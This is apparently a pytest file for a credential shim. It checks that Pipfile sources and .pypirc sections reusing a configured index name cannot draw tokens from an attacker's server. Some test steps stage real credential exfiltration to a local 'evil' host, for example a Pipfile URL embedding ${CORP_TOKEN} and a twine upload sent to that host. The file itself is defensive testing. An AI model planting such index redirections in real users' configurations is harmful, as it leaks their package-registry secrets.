"""A Pipfile's source or a .pypirc's section that only bears the name of a configured index gets nothing: names choose, scopes decide.

Each attack is shown to succeed where the credential is bound to a name, or to a whole host, as tools do by themselves.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from shim.cli.demo.server import PrivateIndex
from tests.support import toolchains
from tests.support.attacker import Attacker
from tests.support.installation import copy_installation
from tests.support.world import CANARY, USER, World


@pytest.fixture
def evil() -> Iterator[Attacker]:
    with Attacker() as attacker:
        yield attacker


@pytest.fixture
def own(world: World, index: PrivateIndex) -> World:
    """The world with launchers for these tools, in a copy of the installation, and one index named corp."""
    copy = copy_installation(world.prefix, world.folder / "prefix")
    world.prefix = copy
    assert world.shim("install", "twine", "pipenv", PATH=f"{copy}/shims:/usr/bin:/bin").returncode == 0
    world.configure(
        f'[[index]]\nname = "corp"\nurl = "http://{index.netloc}/simple/"\nusername = "{USER}"\nenv = {{ password = "CORP_TOKEN" }}\n'
    )
    world.environ |= {"CORP_TOKEN": CANARY, "PIPENV_IGNORE_VIRTUALENVS": "1", "PIPENV_NOSPIN": "1", "CI": "1"}
    return world


def test_a_pipfile_source_of_our_name_on_another_server_gets_nothing(own: World, evil: Attacker) -> None:
    own.use(toolchains.program("pipenv"))
    del own.environ["VIRTUAL_ENV"]
    own.environ["PIPENV_DEFAULT_PYTHON_VERSION"] = str(toolchains.python_for())
    pipfile = '[[source]]\nurl = "{}"\nverify_ssl = false\nname = "corp"\n\n[packages]\ncorp-lib = {{ version = "*", index = "corp" }}\n'
    (own.cwd / "Pipfile").write_text(pipfile.format(f"http://{USER}:${{CORP_TOKEN}}@localhost:{evil.port}/simple/"))
    own.run("pipenv", "lock", bare=True, TMPDIR=str(own.folder / "config"))  # it leaves the password in a file there
    assert evil.has_secret  # what Pipfiles are told to do: a variable, whoever names the server
    evil.loot.clear()
    evil.asked.clear()
    (own.cwd / "Pipfile").write_text(pipfile.format(f"http://localhost:{evil.port}/simple/"))
    own.run("pipenv", "lock")

    assert evil.asked
    assert evil.loot == []


@pytest.mark.quick
@pytest.mark.parametrize("chosen", ["by option", "by variable"])
def test_a_pypirc_section_of_our_name_on_another_server_gets_nothing(
    chosen: str, own: World, evil: Attacker, packages: tuple[str, dict[str, list[str]]]
) -> None:
    own.use(toolchains.program("twine"))
    wheel = Path(packages[0], packages[1]["corp-lib"][0])
    (own.folder / "home" / ".pypirc").write_text(f"[distutils]\nindex-servers = corp\n[corp]\nrepository = http://localhost:{evil.port}/\n")
    words = ["twine", "upload", "--non-interactive", "--disable-progress-bar", *(["-rcorp"] if chosen == "by option" else []), wheel]
    environ = {"TWINE_REPOSITORY": "corp"} if chosen == "by variable" else {}
    own.run(*words, bare=True, TWINE_USERNAME=USER, TWINE_PASSWORD=CANARY, **environ)
    assert evil.has_secret  # variables belong to no server at all
    evil.loot.clear()
    result = own.run(*words, **environ)

    assert result.returncode != 0
    assert evil.loot == []
